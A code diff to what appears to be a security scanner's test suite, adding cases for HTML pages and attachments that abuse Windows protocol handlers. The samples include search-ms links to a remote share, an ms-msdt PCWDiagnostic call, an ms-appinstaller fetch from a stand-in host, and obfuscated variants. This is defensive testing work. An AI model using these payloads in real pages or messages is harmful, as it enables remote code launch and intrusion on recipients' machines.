@@ -39,6 +39,9 @@ def cases() -> Iterator[Case]:
         yield Case(f"markup/svg-zip/{name}", 33, attached(b"logos.zip", zipped("logo.svg", image.encode())), POLICY)
     for name, message in _laced():
         yield Case(f"markup/laced/{name}", 34, message, POLICY)
+    for name, page in handed_over().items():
+        yield Case(f"markup/handed-over/{name}", 33, attached(b"invoice.html", page.encode(), b"text/html"), POLICY)
+        yield Case(f"markup/handed-over-body/{name}", 33, _body(page.encode(), b"utf-8"), POLICY)
     for name, page in harmless_pages().items():
         yield Case(f"markup/harmless/{name}", 33, attached(b"report.html", page.encode(), b"text/html"), HARMLESS)
         yield Case(f"markup/harmless-body/{name}", 33, _body(page.encode(), b"utf-8"), HARMLESS)
@@ -289,6 +292,22 @@ def _carrying() -> dict[str, str]:
     return found
 
 
+def handed_over() -> dict[str, str]:
+    """Pages with an address that Windows hands to a program."""
+    search = "search-ms:query=invoice&crumb=location:%5C%5C192.0.2.9%5Cs"
+    return {
+        "link": f'<html><a href="{search}">open</a></html>',
+        "bare": f"<html><a href={search}>open</a></html>",
+        "broken": '<html><a href="sea\trch-\nms:query=x">open</a></html>',
+        "spelled": '<html><a href="&#115;earch-ms&colon;query=x">open</a></html>',
+        "frame": f'<html><iframe src="{search}"></iframe></html>',
+        "refresh": f'<html><meta http-equiv="refresh" content="0;url={search}"></html>',
+        "form": "<html><form action='ms-officecmd:{}'></form></html>",
+        "script": _page("window.location.href = 'ms-msdt:/id PCWDiagnostic'"),
+        "opened": _page('window.open("ms-appinstaller:?source=https://x.example/a.msix")'),
+    }
+
+
 def images() -> dict[str, str]:
     """SVG images with a script."""
     head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">'
@@ -464,6 +483,9 @@ def harmless_pages() -> dict[str, str]:
             body="<pre id=t></pre>",
         ),
         "escaped-page": _page(f"document.write(unescape('{quote('<p>' + table + '</p>', safe='')}'))"),
+        "handler-shown": "<html><p>Attacks with <code>search-ms:query=x</code> and 'ms-msdt:/id' links</p><a href='https://www.example.com/?q=search-ms:'>more</a></html>",
+        "void": "<html><a href='javascript:void(0)' onclick='print()'>Print</a><a href=\"ms-word:ofe|u|https://x.sharepoint.com/a.docx\">Open</a></html>",
+        "fields": "<html><body><!--[if supportFields]><span style='mso-element:field-begin'></span> HYPERLINK &quot;https://www.example.com/&quot;<span style='mso-element:field-separator'></span><![endif]-->DDE, explained<!--[if supportFields]><span style='mso-element:field-end'></span><![endif]--></body></html>",
         "parsed": _page("function c(h){return parseInt(h.slice(1,3),16)+parseInt(h,36)}var t='" + "a1b2c3;" * 40 + "'"),
         "json-ld": '<html><script type="application/ld+json">{"@context":"http://schema.org","@type":"Order","url":"https://www.example.com/"}</script></html>',
     }
